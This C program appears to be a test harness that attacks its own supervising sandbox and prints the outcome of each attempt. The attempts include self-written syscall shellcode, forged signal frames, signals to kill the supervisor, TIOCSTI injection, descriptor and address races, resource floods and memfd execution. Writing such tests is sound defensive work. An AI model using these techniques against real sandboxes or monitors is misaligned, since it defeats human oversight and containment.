/* attacks.c: a program that means its supervisor harm: what each try came to is printed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

extern char **environ;

static long error(long result)
{
	return result < 0 ? -errno : result;
}

static void say(const char *what, long result)
{
	printf("%s: %ld\n", what, error(result));
}

/* What a child of this comes to, by its status. */
static int in_child(void (*what)(void))
{
	pid_t child = fork();
	if (child == 0) {
		what();
		_exit(0);
	}
	int status = -1;
	waitpid(child, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static const char *denied, *allowed;

/* Whether what may be opened still is. */
static void still_opens(void)
{
	int file = open(allowed, O_RDONLY);
	say("opened", file < 0 ? -1 : 0);
	close(file);
}

/* Opens what is refused, by an instruction that is given: 7 if it is refused, 8 if not. */
static void try_from(long (*call)(long, long, long, long, long))
{
	long file = call(SYS_openat, AT_FDCWD, (long)denied, O_RDONLY, 0);
	_exit(file == -EACCES ? 7 : file >= 0 ? 8 : 9);
}

/* mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; mov r10, r8; syscall; ret */
static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48,
                                     0x89, 0xca, 0x4d, 0x89, 0xc2, 0x0f, 0x05, 0xc3};

static void made_code(void)
{
	void *page = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(page, code, sizeof code);
	try_from((long (*)(long, long, long, long, long))page);
}

__attribute__((noinline, aligned(64))) static long overwritten(long a, long b, long c, long d, long e)
{
	__asm__ volatile(".fill 64, 1, 0x90" ::: "memory");
	return a + b + c + d + e;
}

static void own_text(void)
{
	char *page = (char *)((long)overwritten & -4096l);
	if (mprotect(page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
		_exit(10);
	memcpy((void *)overwritten, code, sizeof code);
	try_from(overwritten);
}

static long plain(long a, long b, long c, long d, long e)
{
	long result = syscall(a, b, c, d, e);
	return error(result);
}

static void bases(void)
{
	/* ARCH_SET_GS; and what the C library has by fs is kept, since it is called. */
	syscall(SYS_arch_prctl, 0x1001, 0x123456789000l);
	long fs = 0;
	syscall(SYS_arch_prctl, 0x1003, &fs);
	syscall(SYS_arch_prctl, 0x1002, fs);
	try_from(plain);
}

static ucontext_t forged;
static char forged_stack[65536] __attribute__((aligned(64)));

static void forged_goes_on(void)
{
	try_from(plain);
}

static void copy_frame(int signal, siginfo_t *info, void *context)
{
	(void)signal, (void)info;
	ucontext_t *frame = context;
	frame->uc_mcontext.gregs[REG_RIP] = (long)forged_goes_on;
	frame->uc_mcontext.gregs[REG_RSP] = (long)(forged_stack + sizeof forged_stack - 72);
	sigfillset(&frame->uc_sigmask);
	forged = *frame;
}

static void signal_frames(void)
{
	struct sigaction action = {.sa_sigaction = copy_frame, .sa_flags = SA_SIGINFO};
	sigaction(SIGUSR1, &action, 0);
	raise(SIGUSR1);
	_exit(11);
}

static void no_vdso(void)
{
	char line[512];
	unsigned long start, end;
	FILE *maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof line, maps))
		if (strstr(line, "[vdso]") && sscanf(line, "%lx-%lx", &start, &end) == 2)
			munmap((void *)start, end - start);
	try_from(plain);
}

static void by_vfork(void)
{
	pid_t child = vfork();
	if (child == 0)
		try_from(plain);
	int status = 0;
	waitpid(child, &status, 0);
	_exit(WEXITSTATUS(status));
}

/* All ways to make a call that are not the C library's. */
static void ways(void)
{
	printf("code that was made: %d\n", in_child(made_code));
	printf("own text: %d\n", in_child(own_text));
	printf("bases: %d\n", in_child(bases));
	printf("a signal's frame: %d\n", in_child(signal_frames));
	printf("without the vdso: %d\n", in_child(no_vdso));
	printf("vfork: %d\n", in_child(by_vfork));
}

/* Who the supervisor is, and what is near to it. */
static void reach(void)
{
	pid_t supervisor = getppid(), child;
	union {
		unsigned long words[16];
		struct rlimit limit;
		int number;
	} some = {{1}};
	signal(SIGTERM, SIG_IGN);
	say("kill", kill(supervisor, SIGKILL));
	say("kill, asking", kill(supervisor, 0));
	say("kill its group", kill(0, SIGTERM));
	say("kill its group, by number", kill(-getpgid(0), SIGTERM));
	say("kill all", kill(-1, SIGTERM));
	say("tkill", syscall(SYS_tkill, supervisor, SIGKILL));
	say("tgkill", syscall(SYS_tgkill, supervisor, supervisor, SIGKILL));
	say("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, supervisor, SIGTERM, &some));
	int of = syscall(SYS_pidfd_open, supervisor, 0);
	say("pidfd_send_signal", syscall(SYS_pidfd_send_signal, of, SIGKILL, 0, 0));
	int folder = open("/proc/self", O_RDONLY | O_DIRECTORY);
	say("by a folder", syscall(SYS_pidfd_send_signal, folder, SIGKILL, 0, 0));
	say("prlimit", prlimit(supervisor, RLIMIT_NOFILE, &some.limit, 0));
	say("prlimit of itself", prlimit(getpid(), RLIMIT_NOFILE, 0, &some.limit));
	cpu_set_t all;
	sched_getaffinity(0, sizeof all, &all);
	say("sched_setaffinity", sched_setaffinity(supervisor, sizeof all, &all));
	say("sched_setaffinity of itself", sched_setaffinity(gettid(), sizeof all, &all));
	say("setpriority", setpriority(PRIO_PROCESS, supervisor, 19));
	say("setpriority of its group", setpriority(PRIO_PGRP, 0, 19));
	say("setpriority of itself", setpriority(PRIO_PROCESS, 0, getpriority(PRIO_PROCESS, 0)));
	/* Not this process's own, which is in that group already. */
	say("setpgid", setpgid(0, getpgid(supervisor)));
	say("vhangup", vhangup());
	say("adjtimex", syscall(SYS_adjtimex, &some));
	say("a call of tomorrow's", syscall(471, 0, 0, 0));
	say("an old number of x32's", syscall(540, 0, 0, 0));
	if ((child = fork()) == 0) {
		pause();
		_exit(0);
	}
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", child);
	say("another's memory", open(path, O_RDONLY));
	int other = syscall(SYS_pidfd_open, child, 0);
	say("a child", syscall(SYS_pidfd_send_signal, other, SIGKILL, 0, 0));
	int status = 0;
	waitpid(child, &status, 0);
	printf("it ended by: %d\n", WTERMSIG(status));
	int file = open(allowed, O_RDONLY);
	say("FS_IOC_SETFLAGS", ioctl(file, FS_IOC_SETFLAGS, &some.number));
	say("TIOCSTI", ioctl(0, TIOCSTI, "x"));
	say("userfaultfd", syscall(SYS_userfaultfd, 0));
	say("its device's", ioctl(file, 0xaa00, 0));
	still_opens();
}

/* What is found by names and numbers, and files' times. */
static void named(const char *link)
{
	struct timespec times[2] = {{1, 0}, {2, 0}};
	struct mq_attr attributes = {.mq_maxmsg = 1, .mq_msgsize = 8};
	char name[64];
	snprintf(name, sizeof name, "/postern-%d", getpid());
	mqd_t queue = mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, &attributes);
	say("mq_open", queue < 0 ? -1 : 0);
	char got[8] = {0};
	say("mq_send", mq_send(queue, "abc", 4, 0));
	say("mq_receive", mq_receive(queue, got, sizeof got, 0));
	say("mq_unlink", mq_unlink(name));
	say("mq_unlink again", mq_unlink(name));
	int memory = shmget(IPC_PRIVATE, 4096, 0600);
	say("shmget", memory < 0 ? -1 : 0);
	if (memory >= 0) {
		say("shmat", shmat(memory, 0, 0) == (void *)-1 ? -1 : 0);
		shmctl(memory, IPC_RMID, 0);
	}
	int watches = inotify_init1(IN_CLOEXEC);
	say("inotify", inotify_add_watch(watches, allowed, IN_OPEN) < 0 ? -1 : 0);
	say("inotify, denied", inotify_add_watch(watches, denied, IN_OPEN));
	say("inotify, by a link", inotify_add_watch(watches, link, IN_OPEN));
	say("inotify of the link", inotify_add_watch(watches, link, IN_ATTRIB | IN_DONT_FOLLOW) < 0 ? -1 : 0);
	say("utimensat", utimensat(AT_FDCWD, allowed, times, 0));
	say("utimensat, denied", utimensat(AT_FDCWD, denied, times, 0));
	say("utimensat, by a link", utimensat(AT_FDCWD, link, times, 0));
	say("utimensat of the link", utimensat(AT_FDCWD, link, times, AT_SYMLINK_NOFOLLOW));
	int file = open(allowed, O_RDONLY);
	struct stat status;
	say("futimens", futimens(file, 0));
	fstat(file, &status);
	printf("it is now: %d\n", status.st_mtime > 1000);
	struct timeval old[2] = {{3, 5}, {4, 6}};
	say("utimes", utimes(allowed, old));
	fstat(file, &status);
	printf("times: %ld %ld %ld\n", (long)status.st_atime, (long)status.st_mtime, status.st_mtim.tv_nsec);
}

static volatile int over;
static int flipped, one, other;

static void *flip_descriptors(void *unused)
{
	(void)unused;
	while (!over) {
		dup2(one, flipped);
		dup2(other, flipped);
	}
	return 0;
}

/* A descriptor is now for this, now for that. What is opened with O_PATH is not refused. */
static void descriptors(int tries)
{
	pthread_t thread;
	int changed = 0;
	one = open(allowed, O_RDONLY);
	other = open(denied, O_PATH);
	flipped = dup(one);
	pthread_create(&thread, 0, flip_descriptors, 0);
	for (int at = 0; at < tries; at++)
		changed += fchmod(flipped, 0666) == 0;
	over = 1;
	pthread_join(thread, 0);
	struct stat status;
	stat(denied, &status);
	printf("changed: %s, mode of the denied: %o\n", changed ? "some" : "none", status.st_mode & 0777);
}

/* A process's descriptor is now for the supervisor, now for a child. */
static void processes(int tries)
{
	pthread_t thread;
	pid_t child = fork();
	if (child == 0) {
		pause();
		_exit(0);
	}
	one = syscall(SYS_pidfd_open, child, 0);
	other = syscall(SYS_pidfd_open, getppid(), 0);
	flipped = dup(one);
	over = 0;
	pthread_create(&thread, 0, flip_descriptors, 0);
	int sent = 0;
	for (int at = 0; at < tries || sent == 0; at++)
		sent += syscall(SYS_pidfd_send_signal, flipped, SIGCONT, 0, 0) == 0;
	over = 1;
	pthread_join(thread, 0);
	printf("sent: some\n");
	kill(child, SIGKILL);
	waitpid(child, 0, 0);
}

static struct sockaddr_in to;
static int ports[2];

static void *flip_ports(void *unused)
{
	(void)unused;
	for (unsigned at = 0; !over; at++) {
		*(volatile in_port_t *)&to.sin_port = htons(ports[at & 1]);
		for (volatile int wait = 0; wait < (int)(at % 64); wait++)
			;
	}
	return 0;
}

/* An address changes all the time. */
static void addresses(int from, int allowed_port, int tries)
{
	pthread_t thread;
	int file = socket(AF_INET, SOCK_DGRAM, 0), sent = 0;
	to.sin_family = AF_INET;
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	ports[0] = from;
	ports[1] = allowed_port;
	over = 0;
	pthread_create(&thread, 0, flip_ports, 0);
	struct iovec piece = {"x", 1};
	struct msghdr message = {&to, sizeof to, &piece, 1, 0, 0, 0};
	for (int at = 0; at < tries; at++) {
		sent += sendto(file, "x", 1, MSG_DONTWAIT, (void *)&to, sizeof to) == 1;
		sent += sendmsg(file, &message, MSG_DONTWAIT) == 1;
	}
	over = 1;
	pthread_join(thread, 0);
	printf("sent: %s\n", sent ? "some" : "none");
}

/* Processes that wait in the supervisor for a pipe to which nobody comes, and are killed. */
static void left(const char *pipe_name, int count)
{
	static pid_t all[1024];
	int begun[2];
	char byte;
	mkfifo(pipe_name, 0600);
	if (pipe(begun) != 0)
		return;
	for (int at = 0; at < count; at++) {
		all[at] = fork();
		if (all[at] == 0) {
			if (write(begun[1], "x", 1) == 1)
				open(pipe_name, O_RDONLY);
			_exit(0);
		}
	}
	for (int at = 0; at < count; at++)
		if (read(begun[0], &byte, 1) != 1)
			printf("not begun\n");
	usleep(100000);
	for (int at = 0; at < count; at++) {
		kill(all[at], SIGKILL);
		waitpid(all[at], 0, 0);
	}
	unlink(pipe_name);
	still_opens();
}

/* Messages of 4 MiB that nobody receives. */
static void messages(int count)
{
	enum { BYTES = 4 << 20 };
	static char bytes[BYTES];
	static pid_t all[1024];
	memset(bytes, 1, sizeof bytes);
	for (int at = 0; at < count; at++) {
		all[at] = fork();
		if (all[at] != 0)
			continue;
		int pair[2];
		struct iovec piece = {bytes, sizeof bytes};
		struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1};
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0)
			while (sendmsg(pair[0], &message, 0) < 0 && errno == ENOBUFS)
				;
		_exit(0);
	}
	usleep(300000);
	for (int at = 0; at < count; at++) {
		kill(all[at], SIGKILL);
		waitpid(all[at], 0, 0);
	}
	still_opens();
}

/* Descriptors of the program's own are used up, and as many are sent as go. */
static void floods(void)
{
	struct rlimit few = {64, 64};
	int pair[2], last = -1, next;
	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair) != 0)
		return;
	char control[CMSG_SPACE(254 * sizeof(int))];
	memset(control, 0, sizeof control);
	struct cmsghdr *head = (struct cmsghdr *)control;
	struct iovec piece = {"x", 1};
	struct msghdr message = {0, 0, &piece, 1, control, CMSG_SPACE(254 * sizeof(int)), 0};
	*head = (struct cmsghdr){CMSG_LEN(254 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
	say("254 descriptors", sendmsg(pair[0], &message, 0));
	*head = (struct cmsghdr){CMSG_LEN(253 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
	message.msg_controllen = CMSG_SPACE(253 * sizeof(int));
	int sent = 0;
	while (sent < 10000 && sendmsg(pair[0], &message, 0) == 1)
		sent++;
	printf("sent: %s\n", sent > 0 ? "some" : "none");
	struct iovec many[1024];
	for (int at = 0; at < 1024; at++)
		many[at] = (struct iovec){(void *)allowed, 1ul << 40};
	struct msghdr huge = {.msg_iov = many, .msg_iovlen = 1024};
	say("huge pieces", sendmsg(pair[0], &huge, 0));
	huge.msg_iovlen = 1ul << 60;
	say("many pieces", sendmsg(pair[0], &huge, 0));
	setrlimit(RLIMIT_NOFILE, &few);
	while ((next = open(allowed, O_RDONLY)) >= 0)
		last = next;
	printf("descriptors: %d %d\n", last, -errno);
	close(last);
	still_opens();
}

static void *opens(void *unused)
{
	(void)unused;
	while (!over)
		close(open(allowed, O_RDONLY));
	return 0;
}

static void *executes(void *unused)
{
	(void)unused;
	usleep(1000);
	char *words[] = {"true", 0};
	execve("/bin/true", words, environ);
	return 0;
}

/* Threads are in calls while one of them executes a program; processes end in theirs. */
static void ends(int rounds)
{
	int good = 0;
	for (int at = 0; at < rounds; at++) {
		pid_t child = fork();
		if (child == 0) {
			pthread_t thread;
			for (int more = 0; more < 3; more++)
				pthread_create(&thread, 0, opens, 0);
			pthread_create(&thread, 0, executes, 0);
			opens(0);
		}
		int status = -1;
		if (at & 1) {
			usleep(500);
			kill(child, SIGKILL);
		}
		waitpid(child, &status, 0);
		good += at & 1 ? WIFSIGNALED(status) || status == 0 : status == 0;
	}
	printf("ended well: %d\n", good);
	still_opens();
}

/* Executes bytes that it has in memory. */
static void memory_file(void)
{
	static char bytes[1 << 20];
	int from = open("/bin/true", O_RDONLY), memory = memfd_create("x", 0);
	long length = read(from, bytes, sizeof bytes);
	printf("made: %d %d\n", memory >= 0, write(memory, bytes, length) == length);
	say("fchmod", fchmod(memory, 0777));
	char *words[] = {"true", 0}, path[64];
	say("execveat", syscall(SYS_execveat, memory, "", words, environ, AT_EMPTY_PATH));
	snprintf(path, sizeof path, "/proc/self/fd/%d", memory);
	say("execve", execve(path, words, environ));
	say("MFD_EXEC", memfd_create("x", 0x10));
	void *shared = mmap(0, sizeof bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	memcpy(shared, bytes, length);
	snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", (long)shared, (long)shared + sizeof bytes);
	printf("of shared memory: %s\n", execve(path, words, environ) < 0 ? "refused" : "");
	int by_place = open(path, O_RDONLY);
	long result = syscall(SYS_execveat, by_place, "", words, environ, AT_EMPTY_PATH);
	printf("by its descriptor: %s\n", result < 0 ? "refused" : "");
	still_opens();
}

int main(int count, char **words)
{
	const char *what = count > 3 ? words[3] : "";
	int number = count > 4 ? atoi(words[4]) : 0;
	if (count < 4)
		return 2;
	setvbuf(stdout, 0, _IONBF, 0);
	denied = words[1];
	allowed = words[2];
	if (strcmp(what, "ways") == 0)
		ways();
	else if (strcmp(what, "reach") == 0)
		reach();
	else if (strcmp(what, "named") == 0)
		named(words[4]);
	else if (strcmp(what, "descriptors") == 0)
		descriptors(number);
	else if (strcmp(what, "processes") == 0)
		processes(number);
	else if (strcmp(what, "addresses") == 0)
		addresses(number, atoi(words[5]), atoi(words[6]));
	else if (strcmp(what, "left") == 0)
		left(words[5], number);
	else if (strcmp(what, "messages") == 0)
		messages(number);
	else if (strcmp(what, "floods") == 0)
		floods();
	else if (strcmp(what, "ends") == 0)
		ends(number);
	else if (strcmp(what, "memory") == 0)
		memory_file();
	else
		return 2;
	return 0;
}
